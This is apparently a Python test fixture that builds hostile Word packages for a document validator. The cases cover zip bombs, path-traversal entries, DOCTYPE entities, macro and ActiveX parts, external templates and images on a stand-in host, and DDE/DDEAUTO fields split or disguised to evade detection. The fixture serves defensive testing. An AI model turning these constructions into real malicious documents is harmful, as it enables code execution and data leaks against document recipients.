"""Hostile Word documents, each the built-in reference document with one thing that must not come in."""

import io
import zipfile

from docx_sample import reference

from masterplan_cli.writing.docx.package import pack, unpack

DOCUMENT, TYPES = "word/document.xml", "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_part(name: str, content: bytes) -> bytes:
    return pack(unpack(reference()) | {name: content})


def with_text(part: str, before: str, inserted: str) -> bytes:
    """Insert XML before the last occurrence of a text in a part."""
    parts = unpack(reference())
    head, found, tail = parts[part].decode().rpartition(before)
    assert found
    return pack(parts | {part: f"{head}{inserted}{found}{tail}".encode()})


def in_body(xml: str) -> bytes:
    return with_text(DOCUMENT, "<w:sectPr", f"<w:p>{xml}</w:p>")


def related(kind: str, target: str, mode: str = "") -> bytes:
    external = f' TargetMode="{mode}"' if mode else ""
    relation = f'<Relationship Id="rId99" Type="{_OFFICE}/{kind}" Target="{target}"{external}/>'
    return with_text(RELATIONS, "</Relationships>", relation)


def typed(content_type: str) -> bytes:
    return with_text(TYPES, "</Types>", f'<Override PartName="/word/x.bin" ContentType="{content_type}"/>')


def field_in_runs(*pieces: str) -> bytes:
    """A complex field whose code lies in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return in_body(f"{marks[0]}{runs}{marks[1]}{marks[2]}")


def nested_field() -> bytes:
    """A field whose name another field computes: ``{ { QUOTE 68 68 69 } c:\\x }``."""
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    quote = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{end}"
    return in_body(f"{begin}{quote}<w:r><w:instrText> cmd</w:instrText></w:r>{end}")


def zipped(*entries: tuple[str, bytes], flags: int = 0) -> bytes:
    """An archive as zipfile writes it, whatever the names; ``flags`` are set in every entry's directory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (*unpack(reference()).items(), *entries):
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        for entry in archive.infolist():
            entry.flag_bits |= flags
    return buffer.getvalue()


def understated(size: int) -> bytes:
    """A part that unpacks to ``size`` bytes while the directory says that it has ten."""
    content = zipped(("word/media/gambar.png", b"\0" * size))
    return content.replace(size.to_bytes(4, "little"), (10).to_bytes(4, "little"))


_DTD = '<?xml version="1.0"{}?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
_VML = '<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata {}/></w:pict></w:r>'
_SCRIPT = b"<a><script>x</script></a>"
_ENDLESS = '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>'

HOSTILE: dict[str, tuple[bytes, str]] = {
    "no document": (b"bukan Word", "reference.docx"),
    "old or encrypted format": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "reference.docx"),
    "no content types": (pack({"word/document.xml": b"<x/>"}), TYPES),
    "encrypted entry": (zipped(flags=1), TYPES),
    "doubled part": (zipped(("word/STYLES.xml", b"<x/>")), "word/STYLES.xml"),
    "absolute path": (zipped(("/etc/passwd", b"x")), "/etc/passwd"),
    "parent path": (zipped(("word/../../x", b"x")), "word/../../x"),
    "drive path": (zipped(("C:/x", b"x")), "C:/x"),
    "too many parts": (zipped(*((f"word/{n}.xml", b"<x/>") for n in range(2001))), "reference.docx"),
    "zip bomb": (zipped(("word/media/a.png", b"\0" * 5_000_000)), "word/media/a.png"),
    "understated size": (understated(5_000_001), "word/media/gambar.png"),
    "damaged XML": (with_part("word/comments.xml", b"<x>"), "word/comments.xml"),
    "DOCTYPE": (with_part("word/footer9.xml", _DTD.format("").encode()), "word/footer9.xml"),
    "DOCTYPE in UTF-16": (
        with_part("word/footer9.xml", _DTD.format(' encoding="UTF-16"').encode("utf-16")),
        "word/footer9.xml",
    ),
    "DOCTYPE in a relationship part": (with_part("word/_rels/x.rels", _DTD.format("").encode()), "x.rels"),
    "macro part": (with_part("word/vbaProject.bin", b"x"), "word/vbaProject.bin"),
    "macro content type": (typed("application/vnd.ms-office.vbaProject"), TYPES),
    "docm": (typed("application/vnd.ms-word.document.macroEnabled.main+xml"), TYPES),
    "macro relationship": (related("vbaProject", "x.bin"), RELATIONS),
    "form field macro": (in_body('<w:r><w:entryMacro w:val="x"/></w:r>'), DOCUMENT),
    "ribbon": (related("ui/extensibility", "customUI/customUI.xml"), RELATIONS),
    "web add-in": (related("webextensiontaskpanes", "x.xml"), RELATIONS),
    "ActiveX part": (with_part("word/activeX/activeX1.xml", b"<x/>"), "word/activeX/activeX1.xml"),
    "ActiveX control": (related("control", "x.xml"), RELATIONS),
    "OLE relationship": (related("oleObject", "embeddings/x.bin"), RELATIONS),
    "OLE element": (in_body('<w:r><w:object><o:OLEObject xmlns:o="urn:o"/></w:object></w:r>'), DOCUMENT),
    "attached template": (related("attachedTemplate", "https://jahat.example/x.dotm", "External"), RELATIONS),
    "attached template, local": (related("attachedTemplate", "x.dotx"), RELATIONS),
    "linked image": (related("image", "https://jahat.example/x.png", "External"), RELATIONS),
    "linked image on a share": (related("image", "\\\\jahat.example\\x.png"), RELATIONS),
    "file link": (related("hyperlink", "file:///C:/x.exe", "External"), RELATIONS),
    "altChunk": (related("aFChunk", "x.html"), RELATIONS),
    "altChunk element": (with_text(DOCUMENT, "<w:sectPr", "<w:altChunk/>"), DOCUMENT),
    "subdocument": (related("subDocument", "x.docx", "External"), RELATIONS),
    "frames": (with_part("word/webSettings.xml", b"<w><frameset/></w>"), "word/webSettings.xml"),
    "mail merge": (with_text("word/settings.xml", "</w:settings>", "<w:mailMerge/>"), "word/settings.xml"),
    "VML picture": (in_body(_VML.format('src="\\\\jahat.example\\x.png"')), DOCUMENT),
    "script in custom XML": (
        with_part("customXml/item1.xml", _SCRIPT),
        "customXml/item1.xml",
    ),
    "script in XML by content type": (
        pack(
            unpack(with_text(TYPES, "</Types>", '<Override PartName="/word/x.dat" ContentType="text/xml"/>'))
            | {"word/x.dat": _SCRIPT}
        ),
        "word/x.dat",
    ),
    "DDE": (in_body('<w:fldSimple w:instr=" DDE cmd x"/>'), DOCUMENT),
    "DDEAUTO in pieces": (field_in_runs(" DD", "EAU", "TO c:\\\\x "), DOCUMENT),
    "DDEAUTO in small letters": (field_in_runs("ddeauto x"), DOCUMENT),
    "INCLUDETEXT": (field_in_runs("INCLUDETEXT x.docx"), DOCUMENT),
    "INCLUDEPICTURE": (in_body('<w:fldSimple w:instr="INCLUDEPICTURE https://x"/>'), DOCUMENT),
    "IMPORT": (field_in_runs("IMPORT x"), DOCUMENT),
    "LINK": (field_in_runs("LINK Excel.Sheet x"), DOCUMENT),
    "MACROBUTTON": (field_in_runs("MACROBUTTON x"), DOCUMENT),
    "HYPERLINK to a file": (field_in_runs('HYPERLINK "file:///x.exe"'), DOCUMENT),
    "computed field": (nested_field(), DOCUMENT),
    "field without end": (
        in_body(_ENDLESS),
        DOCUMENT,
    ),
    "field in a header": (
        with_part("word/header9.xml", b'<w><fldSimple instr="DDE x"/></w>'),
        "word/header9.xml",
    ),
}
"""Name → the document, and the part that must be named."""
